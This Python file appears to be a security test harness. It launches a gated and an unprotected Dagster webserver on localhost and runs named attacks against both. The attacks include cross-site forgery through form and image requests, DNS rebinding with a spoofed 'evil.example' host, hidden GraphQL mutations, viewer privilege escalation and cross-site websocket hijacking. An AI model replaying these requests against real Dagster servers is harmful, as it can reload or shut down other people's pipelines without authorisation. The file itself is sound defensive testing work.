"""Attacks on Dagster's UI by pages that the operator opens, and by whoever may only look. The control is Dagster's own
webserver, as it comes."""

import base64
import contextlib
import os
import socket
import sys
import tempfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from functools import partial
from pathlib import Path

import httpx
import sqlalchemy as sa

from attack.attempts import Attack
from fbads_pipeline.adapters.postgres.identity.users import PostgresIdentity
from fbads_pipeline.adapters.postgres.server import migrate
from fbads_pipeline.adapters.postgres.server.embedded import EmbeddedPostgres
from fbads_pipeline.adapters.postgres.server.engine import engine, ensure_database
from fbads_pipeline.adapters.processes import Children, free_port
from fbads_pipeline.cli.home import write_dagster_home
from fbads_pipeline_tests.support.postgres_fixture import fresh_database

_DEFINITIONS = """
import dagster as dg

@dg.asset
def thing():
    return 1

defs = dg.Definitions(assets=[thing], jobs=[dg.define_asset_job("tiny_job", [thing])])
"""
_RELOAD = "mutation { reloadWorkspace { __typename } }"
_SHUT_DOWN = 'mutation { shutdownRepositoryLocation(repositoryLocationName: "tiny") { __typename } }'
_EVIL = "https://evil.example"
Send = Callable[[str, dict[str, str]], bool]


@contextlib.contextmanager
def dagster_attacks(server: EmbeddedPostgres) -> Iterator[list[Attack]]:
    """With both webservers running: ours behind its gate, and Dagster's own."""
    with fresh_database(server) as url, tempfile.TemporaryDirectory(prefix="fbads-attack-") as folder:
        made = engine(url, application_name="attack")
        migrate.upgrade(made)
        with _webservers(url, Path(folder)) as (gated, plain):
            identity, now = PostgresIdentity(made), datetime.now(UTC)
            cookies = {role: _session(identity, role, now) for role in ("admin", "viewer")}
            yield [Attack(name, partial(_run, send, gated, plain, cookies[role])) for name, role, send in _ATTACKS]
        made.dispose()


@contextlib.contextmanager
def _webservers(url: str, folder: Path) -> Iterator[tuple[str, str]]:
    (folder / "tiny.py").write_text(_DEFINITIONS)
    workspace = folder / "workspace.yaml"
    workspace.write_text("load_from:\n  - python_file: {relative_path: tiny.py, location_name: tiny}\n")
    write_dagster_home(folder)
    ports, programs = (free_port(), free_port()), Path(sys.executable).parent
    environment = {
        **os.environ,
        "FBADS_HOME": str(folder),
        "FBADS_DATABASE_URL": url,
        "FBADS_DAGSTER_DATABASE_URL": ensure_database(url, f"{sa.engine.make_url(url).database}_dagster"),
        "FBADS_DAGSTER_PORT": str(ports[0]),
        "DAGSTER_HOME": str(folder / "dagster"),
    }
    with Children(folder / "logs") as children:
        options = ["-w", str(workspace), "-p", str(ports[1])]
        children.start("gated", [str(programs / "fbads"), "dagster-ui", "--workspace", str(workspace)], environment)
        children.start("plain", [str(programs / "dagster-webserver"), *options], environment)
        for name, port in zip(("gated", "plain"), ports, strict=True):
            children.wait_for_http(name, f"http://127.0.0.1:{port}/server_info", seconds=120)
        yield f"http://127.0.0.1:{ports[0]}", f"http://127.0.0.1:{ports[1]}"


def _session(identity: PostgresIdentity, role: str, now: datetime) -> dict[str, str]:
    user = identity.add_user(f"{role}@x.example", role, password_hash=None, accounts=None, actor="attack", now=now)  # type: ignore[arg-type]
    return {"fbads_session": identity.open_session(user.user_id, now=now, details={})[0]}


def _run(send: Send, gated: str, plain: str, cookies: dict[str, str], is_protected: bool) -> bool:
    return send(gated if is_protected else plain, cookies)


def _is_done(answer: httpx.Response) -> bool:
    """Whether the mutation was executed; an error of the mutation itself (500) came from executing it."""
    return answer.status_code in (200, 500) and '"data":' in answer.text and "__typename" in answer.text


def _ask(url: str, cookies: dict[str, str], method: str, headers: dict[str, str], **request: object) -> httpx.Response:
    with httpx.Client(base_url=url, cookies=cookies, trust_env=False, timeout=30) as client:
        return client.request(method, "/graphql", headers=headers, **request)  # type: ignore[arg-type]


def _form(url: str, cookies: dict[str, str]) -> bool:
    headers = {"origin": _EVIL, "sec-fetch-site": "cross-site", "content-type": "text/plain"}
    return _is_done(_ask(url, cookies, "POST", headers, params={"query": _RELOAD}, content="x"))


def _other_body(url: str, cookies: dict[str, str]) -> bool:
    headers = {"origin": url, "content-type": "application/graphql"}
    return _is_done(_ask(url, cookies, "POST", headers, content=_RELOAD))


def _image(url: str, cookies: dict[str, str]) -> bool:
    headers = {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors"}
    return _is_done(_ask(url, cookies, "GET", headers, params={"query": _RELOAD}))


def _rebound(url: str, cookies: dict[str, str]) -> bool:
    name = f"evil.example:{url.rpartition(':')[2]}"
    headers = {"host": name, "origin": f"http://{name}", "sec-fetch-site": "same-origin"}
    return _is_done(_ask(url, cookies, "POST", headers, json={"query": _RELOAD}))


def _own_page(url: str, cookies: dict[str, str]) -> bool:
    return _is_done(_ask(url, cookies, "POST", {"origin": url}, json={"query": _RELOAD}))


def _hidden(url: str, cookies: dict[str, str]) -> bool:
    query = "query Look { version } mutation Go { reloadWorkspace { __typename } }"
    return _is_done(_ask(url, cookies, "POST", {"origin": url}, json={"query": query, "operationName": "Go"}))


def _no_session(url: str, cookies: dict[str, str]) -> bool:
    return _ask(url, {}, "POST", {}, json={"query": "{ version }"}).status_code == 200


def _websocket(url: str, cookies: dict[str, str]) -> bool:
    port = int(url.rpartition(":")[2])
    sent = {
        "Host": f"127.0.0.1:{port}",
        "Origin": _EVIL,
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(),
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Protocol": "graphql-ws",
        "Cookie": "; ".join(f"{name}={value}" for name, value in cookies.items()),
    }
    lines = "".join(f"{name}: {value}\r\n" for name, value in sent.items())
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(f"GET /graphql HTTP/1.1\r\n{lines}\r\n".encode())
        return connection.recv(100).startswith(b"HTTP/1.1 101")


def _shut_down(url: str, cookies: dict[str, str]) -> bool:
    headers = {"origin": _EVIL, "sec-fetch-site": "cross-site", "content-type": "text/plain"}
    return _is_done(_ask(url, cookies, "POST", headers, params={"query": _SHUT_DOWN}, content="x"))


_ATTACKS: tuple[tuple[str, str, Send], ...] = (
    ("another site's form starts something in Dagster (text/plain)", "admin", _form),
    ("another body type hides a mutation (application/graphql)", "viewer", _other_body),
    ("another site's image starts something in Dagster (GET)", "admin", _image),
    ("a rebound name starts something in Dagster", "admin", _rebound),
    ("a viewer starts something in Dagster", "viewer", _own_page),
    ("a viewer hides a mutation behind a query", "viewer", _hidden),
    ("nobody's request reads Dagster", "admin", _no_session),
    ("another site opens a websocket to Dagster", "admin", _websocket),
    ("another site shuts the code location down", "admin", _shut_down),
)
